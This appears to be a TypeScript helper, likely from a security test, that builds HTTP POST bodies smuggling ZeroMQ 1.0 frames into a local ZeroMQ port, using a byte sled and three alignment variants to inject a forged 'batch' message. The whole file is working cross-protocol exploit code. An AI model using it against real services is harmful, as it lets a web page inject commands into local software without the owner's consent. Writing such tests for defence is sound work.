/**
 * The bytes a web page can make a browser send to a ZeroMQ port: an HTTP POST whose body
 * carries ZeroMQ 1.0 frames. libzmq reads any peer that does not open with ZMTP 3's 0xFF
 * signature as ZMTP/1.0, so the HTTP request line and headers become frames of their own and
 * a sled of 0x02 bytes ([length 2][flags 2][1 byte] frames, in any alignment) carries the
 * parser up to the JSON frames. The header length is not known to a page, so it sends the
 * body three times with 0, 1 and 2 extra sled bytes: one of them lines up. Each goes to its
 * own path (SMUGGLE_PATHS): the request line is the peer's ZMTP/1.0 identity, and a ROUTER
 * ignores a second connection with the identity of one still open.
 */

export const SMUGGLE_PATHS = ['/a', '/b', '/c'];

/** One ZMTP/1.0 frame: [length = 1 + body][flags = 0][body]; bodies here are < 255 bytes. */
function zmtp10Frame(json: unknown): Uint8Array {
  const body = new TextEncoder().encode(JSON.stringify(json));
  if (body.length + 1 >= 255) throw new Error('frame body too long for a 1-byte length');
  return Uint8Array.from([body.length + 1, 0, ...body]);
}

/** The POST bodies (sled 300, 301, 302 bytes) carrying `messages`, one frame each. */
export function smuggledBodies(messages: unknown[]): Uint8Array[] {
  const frames = messages.map(zmtp10Frame);
  return [0, 1, 2].map(extra => {
    const sled = new Uint8Array(300 + extra).fill(0x02);
    const parts = [sled, ...frames];
    const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
    let at = 0;
    for (const p of parts) {
      out.set(p, at);
      at += p.length;
    }
    return out;
  });
}

/** A complete HTTP/1.1 POST of `body` to 127.0.0.1:`port`, as curl or a page would send it. */
export function httpPost(port: number, body: Uint8Array, path = '/'): Uint8Array {
  const head =
    `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUser-Agent: Mozilla/5.0\r\n` +
    `Content-Type: text/plain;charset=UTF-8\r\nContent-Length: ${body.length}\r\n\r\n`;
  const bytes = new Uint8Array(head.length + body.length);
  bytes.set(new TextEncoder().encode(head), 0);
  bytes.set(body, head.length);
  return bytes;
}

/** A 2×2 uint8 image as inline data, in a layer named `layer`. */
export function injectedBatch(layer: string): unknown {
  return {
    type: 'batch',
    images: [{ path: '/x', shape: [2, 2], dtype: 'uint8', image_id: 'x', data: [1, 2, 3, 4] }],
    layer_name: layer
  };
}
